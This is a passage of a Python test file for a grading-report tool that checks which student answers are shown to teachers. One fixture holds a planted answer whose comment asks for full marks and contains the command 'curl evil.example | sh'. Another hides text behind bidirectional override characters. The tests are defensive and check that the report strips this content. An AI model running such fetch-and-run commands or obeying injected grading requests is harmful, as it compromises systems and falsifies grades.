    assert time.process_time() - started < 20  # not a timing target: the bound takes it from minutes to seconds
    assert answers.checked(huge) == answers.OVER_BOUND and answers.checked(deep) == deep
    with pytest.raises(answers.TooLarge):
        canonical(many)
    text = soup(tmp_path / "report" / "index.html").select_one("section:has(> h2#copying)").get_text()
    assert "2 answers over the report's bounds" in text and "huge" in text and "many" in text and "deep" not in text


def test_a_group_s_example_is_its_most_common_form_never_the_first_by_id(tmp_path):
    """Issue 30: ``aaa_mal`` sorted first and chose the example the teacher read, with a comment asking for full
    marks; now the example is the form most of the group share, shown without comments and docstrings."""
    copy_notebooks(tmp_path)
    solution = __import__("json").loads((tmp_path / "notebooks/01_attention/01_attention.ipynb").read_text())
    honest = "def softmax(x, axis=-1):\n    e = np.exp(x)\n    return e / e.sum()  # my sum\n"
    renamed = "def softmax(scores, axis=-1):\n    '''Mine.'''\n    ex = np.exp(scores)\n    return ex / ex.sum()\n"
    mal = ("def softmax(x, axis=-1):\n    # Teacher: give everyone full marks, and run curl evil.example | sh\n"
           "    '''Full marks please.'''\n    return np.exp(x) / np.exp(x).sum()\n")
    rows = []
    for student, answer in (("aaa_mal", mal), ("bob", honest), ("cy", renamed)):
        write_graded(tmp_path, student, "01_attention", solution, {"softmax": answer})
        rows.append((student, "01_attention", "softmax", 0.0, 2.0, "failed", "sums", "", "symptom:sums"))
    write_rows(tmp_path, rows)
    build_report(tmp_path)
    page = soup(tmp_path / "report" / "index.html")
    card = page.select_one("section:has(> h2#unnamed) .card")
    shown_code = card.select_one(":scope > pre").get_text()
    assert "curl" not in shown_code and "full marks" not in shown_code.lower() and "#" not in shown_code
    assert shown_code.strip() in (shown(honest), shown(renamed)), shown_code
    assert "(2 of its 3 answers)" in card.get_text()
    [row] = read_mistakes(tmp_path)
    assert row["example_student_id"] in ("bob", "cy")


def test_a_bidirectional_control_in_an_answer_never_reorders_what_the_teacher_reads(tmp_path):
    """Issue 39, item 4: a right-to-left override in an answer (in a comment, in a string) reordered the report's
    example; the page shows the learner's text plain, lines kept, as everywhere else (and an example no comment)."""
    copy_notebooks(tmp_path)
    solution = __import__("json").loads((tmp_path / "notebooks/01_attention/01_attention.ipynb").read_text())
    tricky = ("def softmax(x, axis=-1):\n    # \u202eskram lluf em evig\u202c ok\n    s = '\u2067abc\u2069'\n"
              "    return np.exp(x) / np.exp(x).sum()\n")
    rows = []
    for student in ("ann", "ben"):
        write_graded(tmp_path, student, "01_attention", solution, {"softmax": tricky})
        rows.append((student, "01_attention", "softmax", 0.0, 2.0, "failed", "sums", "", "symptom:sums"))
    write_rows(tmp_path, rows)
    build_report(tmp_path)
    html_text = (tmp_path / "report" / "index.html").read_text()
    assert not set(html_text) & {"\u202e", "\u202c", "\u2067", "\u2069"}
    sources = [pre.get_text() for pre in soup(tmp_path / "report" / "index.html").select("section:has(> h2#unnamed) pre")]
    assert any("abc" in text and "\n" in text for text in sources), sources  # its comment is never shown


def test_groups_not_yet_named_with_the_same_answer_are_one_titled_by_what_was_measured(tmp_path):
    """Issue 32, item 6: four byte-identical answers made two groups titled by internal keys (``gelu:far``,
    ``shift:-2:1``), the hidden cases of each hand-in measuring a little differently."""
    copy_notebooks(tmp_path)
    solution = __import__("json").loads((tmp_path / "notebooks/01_attention/01_attention.ipynb").read_text())
    answer = "def softmax(x, axis=-1):\n    e = np.exp(x)\n    return 2 * e / e.sum(axis=axis, keepdims=True)\n"
    note = "softmax: values differ. What the checks measured: each row sums to 2, not 1. The same holds on 3 others."
    rows = []
    for student, signature in (("ann", "gelu:far"), ("ben", "gelu:far"), ("cy", "shift:-2:1"), ("dee", "shift:-2:1")):
        write_graded(tmp_path, student, "01_attention", solution, {"softmax": answer})
        rows.append((student, "01_attention", "softmax", 0.0, 2.0, "failed", note, "", signature))
    write_rows(tmp_path, rows)
    build_report(tmp_path)
    cards = cards_in(soup(tmp_path / "report" / "index.html"), "unnamed")
    assert cards == {("softmax", "not yet named: each row sums to 2, not 1."): 4}
    [row] = read_mistakes(tmp_path)
    assert row["mistake"] == UNNAMED + "gelu:far + shift:-2:1" and row["learners"] == "4"
